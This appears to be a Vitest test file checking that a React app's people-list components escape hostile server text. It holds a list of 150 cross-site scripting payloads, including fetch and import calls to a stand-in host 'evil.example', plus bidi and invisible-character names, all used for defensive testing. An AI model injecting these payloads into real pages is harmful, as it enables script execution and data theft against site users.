import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { FACTS } from '#renderer/features/people/cells.tsx';
import type { PersonRow } from '#renderer/features/people/people-list.ts';
import type { UserId } from '#shared/base/brand.ts';
import { Chip } from './chip.tsx';
import { Delta } from './delta.tsx';
import { ErrorNote } from './error-note.tsx';
import { SafeText } from './safe-text.tsx';

const BODIES = [
  'alert(1)',
  'fetch("//evil.example")',
  "top['al'+'ert'](1)",
  'import("//evil.example")',
  '`1`',
];
/** 150 texts that would do something in a page that took them for markup, an address or a style. */
const XSS = BODIES.flatMap((body) => [
  `<script>${body}</script>`,
  `<img src=x onerror=${body}>`,
  `<svg onload=${body}>`,
  `<svg><script>${body}</script></svg>`,
  `<iframe srcdoc="<script>${body}</script>">`,
  `<iframe src="javascript:${body}">`,
  `<a href="javascript:${body}">x</a>`,
  `<a href="data:text/html,${body}">x</a>`,
  `<form action="javascript:${body}"><button>x</button></form>`,
  `<button formaction="javascript:${body}">x</button>`,
  `<object data="javascript:${body}">`,
  `<embed src="javascript:${body}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${body}">`,
  `<base href="javascript:${body}//">`,
  `<link rel="stylesheet" href="//evil.example/${body}">`,
  `<style>*{background:url("//evil.example/${body}")}</style>`,
  `<div style="background:url(javascript:${body})">`,
  `<details open ontoggle=${body}>`,
  `<input autofocus onfocus=${body}>`,
  `<video><source onerror=${body}></video>`,
  `<math><mi xlink:href="javascript:${body}">x</mi></math>`,
  `<template><script>${body}</script></template>`,
  `"><script>${body}</script>`,
  `' onmouseover='${body}`,
  `--><script>${body}</script>`,
  `</title><script>${body}</script>`,
  `{{constructor.constructor('${body}')()}}`,
  `javascript:${body}`,
  `](javascript:${body})`,
  `\u0000<script>${body}</script>`,
]);
/** Names of people that hide, turn or pile up. */
const NAMES = [
  ...['\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c'],
  ...['\u200b', '\u200c', '\u2060', '\ufeff', '\u00ad', '\u034f', '\u180e', '\u3164', '\uffa0', '\u115f'],
  ...[
    '\ufe0f',
    '\u{e0041}',
    '\u{e0100}',
    '\u2800',
    '\u2028',
    '\u2029',
    '\u0007',
    '\u001b[31m',
    '\ud800',
    '\ue000',
  ],
  ...['\u0301'.repeat(40), '\n', '\r\n', '\t'],
].map((it) => `Ada${it}Lee`);

/** Every way in which a text of a server gets on a screen, with the same text. */
const draw = (text: string): readonly string[] => {
  const row: PersonRow = {
    ...{ userId: 'u1' as UserId, username: text, name: text, email: text, status: null, loginType: text },
    ...{ lastSeenAt: null, createdAt: null, isServiceAccount: false, roles: [], siteRoles: [] },
    ...{ selected: false, organizations: null, staged: null, applying: null },
  };
  return [
    <SafeText key="text">{text}</SafeText>,
    <Chip key="chip" kind="added">
      {text}
    </Chip>,
    <Delta key="delta" lead={text} added={[text, 'b', 'c']} removed={[text]} most={1} />,
    <ErrorNote key="error" failure={{ message: text, detail: text }} />,
    ...[FACTS.username, FACTS.name, FACTS.email, FACTS.loginType].map(({ draw: drawFact }) =>
      drawFact({ row, names: { show: (name) => name, isKnown: () => true }, nowMs: 0 }),
    ),
  ].map((element) => renderToStaticMarkup(element));
};

/** What a person reads of markup. */
const toText = (markup: string): string =>
  markup
    .replace(/<[^<>]*>/g, '')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#x27;', "'")
    .replaceAll('&amp;', '&');

/** The elements of markup, and the names of their attributes. */
const listTags = (markup: string): readonly string[] =>
  [...markup.matchAll(/<([a-z]+)((?:\s+[\w-]+(?:="[^"]*")?)*)\s*\/?>/g)].flatMap(
    ([, tag = '', rest = '']) => [
      tag,
      ...[...rest.matchAll(/\s([\w-]+)(?:="[^"]*")?/g)].map(([, name = '']) => name),
    ],
  );
const PLAIN = draw('Ada').map((markup) => new Set(listTags(markup)));

describe('what a server calls somebody', () => {
  it('is drawn as it reads, and makes no element or attribute, whatever it says', () => {
    expect([new Set(XSS).size, new Set(NAMES).size >= 30]).toEqual([150, true]);
    for (const text of XSS.filter((it) => !it.startsWith('\u0000')))
      for (const markup of draw(text)) expect(toText(markup), text).toContain(text);
    for (const text of [...XSS, ...NAMES])
      for (const [at, markup] of draw(text).entries()) {
        const news = listTags(markup).filter((name) => PLAIN[at]?.has(name) !== true);
        expect(
          news.filter((name) => !['span', 'class', 'title'].includes(name)),
          text,
        ).toEqual([]);
        expect(markup).not.toMatch(/<script|<img|<iframe|<a[\s>]|<style/);
      }
  });

  it('has nothing in it that cannot be seen, turns a line or begins another', () => {
    for (const text of NAMES)
      for (const markup of draw(text))
        expect(markup, JSON.stringify(text)).not.toMatch(
          /[\p{Cc}\p{Cs}\p{Co}\p{Zl}\p{Zp}]|[\u200b-\u200f\u202a-\u202e\u2060-\u2069]|\p{M}{4}/u,
        );
  });

  it('is cut where it would be longer than a row', () => {
    expect(renderToStaticMarkup(<SafeText>{'x'.repeat(100_000)}</SafeText>).length).toBeLessThan(300);
  });
});
